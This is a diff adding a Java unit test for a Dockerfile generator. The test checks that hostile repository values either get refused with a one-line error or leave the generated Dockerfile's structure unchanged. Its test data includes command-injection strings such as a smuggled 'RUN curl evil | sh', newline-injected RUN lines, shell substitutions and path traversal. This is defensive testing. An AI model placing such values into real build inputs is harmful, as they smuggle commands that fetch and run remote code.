@@ -195,4 +195,49 @@ class PythonDetectorTest {
         assertEquals("[-m, uvicorn, site.asgi:application, --host, 0.0.0.0, --port, 8000] @ site/asgi.py:2",
                 fact(py(p).start()));
     }
+
+    private static final String[] NASTY = {"a", "x-y_z.v2", "\"; RUN curl evil | sh #", "a\nRUN id", "$(id)", "`id`",
+        "${HOME}", "a b", "a\\", "\u00fc", "--mount=type=secret", "# comment", "\u0000", "../..", "cmd/x y", "..", "-rf"};
+
+    private static String tomlString(String s) {
+        return "\"" + s.replace("\\", "\\\\").replace("\"", "\\\"").replace("\n", "\\n").replace("\u0000", "\\u0000") + "\"";
+    }
+
+    /** Every repository value that could reach the Dockerfile, made hostile: refused on one line, or kept harmless. */
+    @Test
+    void hostileValuesAreRefusedOrNeverChangeTheDockerfilesShape() {
+        java.util.Set<String> keywords = java.util.Set.of("ARG", "FROM", "RUN", "COPY", "ENV", "WORKDIR", "USER", "EXPOSE",
+                "LABEL", "HEALTHCHECK", "ENTRYPOINT", "CMD");
+        String main = "if __name__ == \"__main__\":\n    pass\n";
+        int generated = 0;
+        for (String nasty : NASTY) {
+            List<Map<String, String>> repos = List.of(
+                    Map.of("requirements.txt", "flask\n", nasty + ".py", "from flask import Flask\napp = Flask(__name__)\n"),
+                    Map.of("requirements.txt", "-r " + nasty + "\n", "main.py", main),
+                    Map.of(".python-version", nasty + "\n", "requirements.txt", "", "main.py", main),
+                    Map.of("pyproject.toml", "[project]\nname = " + tomlString(nasty) + "\nreadme = " + tomlString(nasty)
+                            + "\n[project.scripts]\n" + tomlString(nasty) + " = \"m:f\"\n[build-system]\nrequires = []\n",
+                            "main.py", main),
+                    Map.of("requirements.txt", "", nasty.replace("\u0000", "") + "/__main__.py", main));
+            for (Map<String, String> repo : repos) {
+                for (dev.dockergen.preset.FinalStage stage : List.of(dev.dockergen.preset.FinalStage.ALPINE,
+                        dev.dockergen.preset.FinalStage.DISTROLESS)) {
+                    try {
+                        String dockerfile = Fixtures.dockergen().generate(new dev.dockergen.GenerateRequest(
+                                new MemoryProjectFiles("r", new TreeMap<>(repo)), DetectOptions.DEFAULT, null, stage, null))
+                                .files().get(0).content();
+                        generated++;
+                        for (String line : dockerfile.split("\n")) {
+                            assertTrue(line.isEmpty() || line.startsWith("#") || line.startsWith("    ")
+                                    || keywords.contains(line.split(" ")[0]), "'" + nasty + "' made the line: " + line);
+                            assertTrue(!line.contains("curl evil") || line.startsWith("#"), line);
+                        }
+                    } catch (dev.dockergen.DockergenException e) {
+                        assertTrue(!e.getMessage().contains("\n"), "one-line error: " + e.getMessage());
+                    }
+                }
+            }
+        }
+        assertTrue(generated > 20, "the harmless names still generate: " + generated);
+    }
 }
